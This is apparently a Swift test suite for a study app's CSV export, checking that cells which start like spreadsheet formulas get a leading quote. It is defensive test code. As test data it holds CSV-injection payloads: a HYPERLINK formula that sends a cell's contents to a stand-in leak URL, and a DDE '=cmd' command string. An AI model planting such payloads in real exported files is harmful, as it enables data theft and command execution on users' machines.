import Testing
import DeckKit
import StudyCore
@testable import Reports

/// CSV cells a spreadsheet would run as formulas are neutralised (OWASP,
/// CSV injection); ordinary text is written as it is (the round trip is in
/// `CSVExportTests`).
@Suite("CSV injection")
struct CSVInjectionTests {
    @Test func cellsThatStartLikeAFormulaGetAQuote() throws {
        let post = """
            # Post
            ## Topic
            - =HYPERLINK("http://example.com/?leak=" & A1, "click")
            - +1+2 is not a sum here
            - -2 dB per metre
            - @SUM(A1:A9) as text
            - an ordinary fact, with = + - @ inside
            """
        var deck = try DeckLoader.load(text: post, file: "post.md")
        deck.title = "=cmd|' /C calc'!A0"
        let rows = CSVExportTests.parse(CSVExport.text(decks: [deck], cards: [:])).dropFirst()
        #expect(rows.map { $0[2] } == [
            "'=HYPERLINK(\"http://example.com/?leak=\" & A1, \"click\")",
            "'+1+2 is not a sum here",
            "'-2 dB per metre",
            "'@SUM(A1:A9) as text",
            "an ordinary fact, with = + - @ inside",
        ])
        #expect(rows.allSatisfy { $0[0] == "'=cmd|' /C calc'!A0" })
        #expect(rows.allSatisfy { $0[1] == "Post > Topic" && $0[5] == "new" })
    }

    @Test func aTabOrCarriageReturnFirstIsNeutralisedToo() {
        #expect(CSVExport.neutralised("\t=1+1") == "'\t=1+1")
        #expect(CSVExport.neutralised("\r=1+1") == "'\r=1+1")
        #expect(CSVExport.field(CSVExport.neutralised("\r=1+1")) == "\"'\r=1+1\"")
        #expect(CSVExport.neutralised("1=1") == "1=1")
        #expect(CSVExport.neutralised("") == "")
    }

    @Test func theHeaderIsWrittenAsItIs() throws {
        let deck = try DeckLoader.load(text: "# P\n## T\n- a fact\n", file: "p.md")
        #expect(CSVExport.text(decks: [deck], cards: [:]).hasPrefix(CSVExport.header.joined(separator: ",") + "\r\n"))
    }
}
